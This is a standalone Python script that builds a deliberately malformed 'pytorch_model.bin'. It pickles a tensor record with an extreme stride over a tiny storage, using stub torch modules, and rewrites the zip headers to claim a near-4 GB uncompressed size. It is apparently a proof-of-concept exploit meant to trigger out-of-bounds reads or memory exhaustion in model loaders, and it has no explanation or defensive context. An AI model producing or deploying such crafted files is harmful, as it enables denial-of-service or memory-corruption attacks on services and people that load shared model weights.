import sys, types, pickle, io, zipfile, struct, collections
torch = types.ModuleType('torch'); tu = types.ModuleType('torch._utils')
sys.modules['torch'] = torch; sys.modules['torch._utils'] = tu
class HalfStorage: pass
HalfStorage.__module__ = 'torch'; torch.HalfStorage = HalfStorage
def _rebuild_tensor_v2(*a): pass
_rebuild_tensor_v2.__module__ = 'torch._utils'; tu._rebuild_tensor_v2 = _rebuild_tensor_v2
class Stor: pass
class T:
    def __reduce__(self):
        return (_rebuild_tensor_v2, (Stor(), 0, (2,), (2147483000,), False, collections.OrderedDict()))
class P(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, Stor): return ('storage', HalfStorage, '0', 'cpu', 10)
        return None
buf = io.BytesIO(); P(buf, protocol=2).dump(collections.OrderedDict([('w', T())]))
with zipfile.ZipFile('pytorch_model.bin', 'w') as z:
    z.writestr('m/data.pkl', buf.getvalue())
    z.writestr(zipfile.ZipInfo('m/data/0'), b'\0' * (1 << 22), compress_type=zipfile.ZIP_DEFLATED)
data = bytearray(open('pytorch_model.bin', 'rb').read())
# patch uncompressed size in local header and central dir entry of m/data/0
name = b'm/data/0'
i = data.find(b'PK\x03\x04' + b'', data.find(name) - 30)
lh = data.rfind(b'PK\x03\x04', 0, data.find(name) + 1)
struct.pack_into('<I', data, lh + 22, 0xFFFFFFF0)
cd = data.find(b'PK\x01\x02' , data.find(b'PK\x01\x02'))
while cd >= 0:
    nlen = struct.unpack_from('<H', data, cd + 28)[0]
    if data[cd+46:cd+46+nlen] == name: struct.pack_into('<I', data, cd + 24, 0xFFFFFFF0)
    cd = data.find(b'PK\x01\x02', cd + 4)
open('pytorch_model.bin', 'wb').write(data)
print(len(data))
